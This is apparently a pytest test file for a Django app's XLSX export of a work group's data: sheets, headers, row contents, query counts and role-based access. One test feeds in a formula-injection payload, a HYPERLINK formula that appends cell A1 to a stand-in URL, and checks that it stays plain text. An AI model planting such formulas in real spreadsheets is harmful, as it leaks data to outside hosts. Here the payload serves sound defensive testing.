"""A group's XLSX export: its sheets and columns, texts kept as texts, who may export, and a
query count that does not grow with the group."""

from __future__ import annotations

import datetime as dt
import io
import zipfile

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from workgroups import services
from workgroups.models import Question
from workgroups.selectors.export import group_export
from workgroups.services.meetings import meeting_create
from workgroups.views.export import XLSX

pytestmark = pytest.mark.django_db

SHEETS = {
    "Mål": ["Mål", "Aktivitet", "Ansvarig", "Tidplan", "Status", "Uppföljning"],
    "Möten": ["Datum", "Tid", "Form", "Plats/länk", "Dagordning", "Minnesanteckningar"],
    "Rapporter": [
        "Typ", "Datum", "Inlämnad", "Genomfört", "Slutsatser hittills", "Fortsatt arbete",
    ],
    "Frågor till rådet": ["Rapport", "Fråga", "Status", "Svar", "Besvarad"],
}  # fmt: skip


def _url(world, key: str = "own", *, slug_of: str | None = None) -> str:
    group = world.extra[f"{key}_group"]
    slug = world.extra[f"{slug_of or key}_group"].council.slug
    return reverse("workgroups:export", kwargs={"slug": slug, "pk": group.pk})


def _workbook(response):
    return load_workbook(io.BytesIO(response.content))


def _rows(sheet) -> list[list]:
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def test_the_export_has_the_four_sheets_with_their_headers(world, client_for):
    response = client_for("member").get(_url(world))
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    assert response["Content-Disposition"] == (
        'attachment; filename="arbetsgrupp-atbt-mellansverige.xlsx"'
    )
    workbook = _workbook(response)
    assert workbook.sheetnames == list(SHEETS)
    for name, header in SHEETS.items():
        assert _rows(workbook[name])[0] == header, name


def test_the_export_holds_the_group_s_goals_meetings_reports_and_questions(world, client_for):
    meeting = world.extra["own_meeting"]
    question = world.extra["own_question"]
    services.question_answer(
        question=question, version=question.version, status=Question.Status.ANSWERED,
        answer="Rådet tar upp frågan i december.", user=world.users["member"],
    )  # fmt: skip
    workbook = _workbook(client_for("convenor").get(_url(world)))
    assert _rows(workbook["Mål"])[1] == [
        "Förbättrad kunskap om organisation och styrning av AT/BT",
        "Kartlägga och sammanställa styrning och redovisning",
        "Arbetsgrupp AT/BT",
        "Q3-4 2022",
        "Ej påbörjad",
        None,
    ]
    starts = timezone.localtime(meeting.starts_at)
    date, time, form, where, agenda, minutes = _rows(workbook["Möten"])[1]
    assert date.date() == starts.date()
    assert time == "10:00–12:00"
    assert (form, where, agenda, minutes) == (
        "Digitalt",
        None,
        "Bakgrund, input på uppdragsbeskrivningen",
        None,
    )
    kind, report_date, submitted, done, *_rest = _rows(workbook["Rapporter"])[1]
    assert (kind, done) == ("Lägesrapport", "Sammanställning pågår")
    assert report_date.date() == timezone.localdate() and submitted.date() == timezone.localdate()
    report, text, status, answer, answered = _rows(workbook["Frågor till rådet"])[1]
    assert report == f"Lägesrapport {timezone.localdate():%Y-%m-%d}"
    assert (text, status, answer) == (
        "Hur påverkar regeringens uppdrag arbetet?",
        "Besvarad",
        "Rådet tar upp frågan i december.",
    )
    assert answered.date() == timezone.localdate()
    assert workbook["Möten"]["A2"].number_format == "yyyy-mm-dd"


def test_a_goal_that_starts_with_an_equals_sign_stays_text(world, client_for):
    formula = '=HYPERLINK("https://example.test/?"&A1,"Klicka")'
    services.goal_create(group=world.extra["own_group"], goal=formula, activity="+SUM(1)")
    response = client_for("convenor").get(_url(world))
    sheet = _workbook(response)["Mål"]
    assert sheet["A3"].value == formula and sheet["A3"].data_type == "s"
    assert sheet["B3"].value == "+SUM(1)" and sheet["B3"].data_type == "s"
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name), name


def test_control_characters_are_taken_out_not_a_500(world, client_for):
    services.goal_create(group=world.extra["own_group"], goal="Mål\x07 med\x1b tecken")
    sheet = _workbook(client_for("convenor").get(_url(world)))["Mål"]
    assert sheet["A3"].value == "Mål med tecken"


def _add(group, number: int) -> None:
    start = timezone.localtime().replace(hour=9, minute=0, second=0, microsecond=0)
    for index in range(number):
        services.goal_create(group=group, goal=f"Mål {index}", timeline="Q1 2023")
        meeting_create(
            group=group, title=f"Möte {index}", starts_at=start + dt.timedelta(days=index + 1),
            ends_at=start + dt.timedelta(days=index + 1, hours=1), form="hybrid",
            place="Örebro", agenda="Dagordning",
        )  # fmt: skip
        services.report_create(
            group=group, kind="lagesrapport", done=f"Gjort {index}",
            question=f"Fråga {index}?", report_date=timezone.localdate() - dt.timedelta(days=index),
        )  # fmt: skip


def test_the_selector_reads_in_four_queries(world, django_assert_num_queries):
    group = world.extra["own_group"]
    _add(group, 4)
    with django_assert_num_queries(4):
        data = group_export(group)
        questions = [q for report in data.reports for q in report.questions.all()]
    assert (len(data.goals), len(data.meetings), len(data.reports), len(questions)) == (5, 5, 5, 5)


def test_the_query_count_is_the_same_for_1_and_for_5_of_each(
    world, client_for, django_assert_num_queries
):
    client = client_for("convenor")
    client.get(_url(world))  # the first request of a session also stamps the session
    with CaptureQueriesContext(connection) as one:
        assert client.get(_url(world)).status_code == 200
    _add(world.extra["own_group"], 4)
    with django_assert_num_queries(len(one)):
        response = client.get(_url(world))
    workbook = _workbook(response)
    assert len(_rows(workbook["Mål"])) == len(_rows(workbook["Möten"])) == 6
    assert len(_rows(workbook["Frågor till rådet"])) == 6


EXPORT = {
    "convenor": 200, "group_member": 200, "member": 200, "secretariat": 200, "national": 200,
    "admin": 200, "other_member": 403, "respondent": 403,
}  # fmt: skip


@pytest.mark.parametrize(("role", "status"), EXPORT.items())
def test_who_exports_the_own_group(world, client_for, role, status):
    assert client_for(role).get(_url(world)).status_code == status


def test_anonymous_is_sent_to_log_in(world, client_for):
    response = client_for("anonymous").get(_url(world))
    assert response.status_code == 302 and response["Location"].startswith(reverse("login"))


def test_another_council_s_group_through_the_own_council_is_404(world, client_for):
    for role in ("member", "secretariat", "admin"):
        assert client_for(role).get(_url(world, "other", slug_of="own")).status_code == 404, role
